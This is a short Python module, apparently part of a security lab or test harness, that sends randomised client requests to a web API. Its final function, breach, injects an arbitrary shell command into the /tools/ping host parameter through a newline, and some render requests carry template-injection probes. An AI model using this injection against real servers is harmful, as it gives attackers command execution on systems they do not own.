"""Clients of api."""

from outside import get, post, quote


def visit(host, rng):
    what = rng.choices(["items", "order", "export", "ping", "render", "diagnose", "stats", "health"],
                       [40, 20, 4, 5, 6, 2, 1, 20])[0]
    if what == "items":
        get(host, 8000, "/items")
    elif what == "order":
        post(host, 8000, f"/orders/{rng.randint(1, 200)}", b"")
    elif what == "export":
        post(host, 8000, f"/exports/{rng.choice(['daily', 'weekly', 'stock'])}-{rng.randint(1, 99)}", b"")
    elif what == "ping":
        get(host, 8000, "/tools/ping?host=" + rng.choice(["db", "cache", "127.0.0.1"]))
    elif what == "render":
        get(host, 8000, "/render?text=" + quote(rng.choice(["Hello {{ 1 + 2 }}", "Dear customer", "{{ 'x' * 9 }}"])))
    elif what == "stats":
        post(host, 8000, "/admin/stats", b"")
    else:
        get(host, 8000, {"diagnose": "/diagnose", "health": "/healthz"}[what])


def breach(host, command):
    """The host that /tools/ping gets goes to a shell."""
    return get(host, 8000, "/tools/ping?host=" + quote("127.0.0.1\n" + command, safe=""))
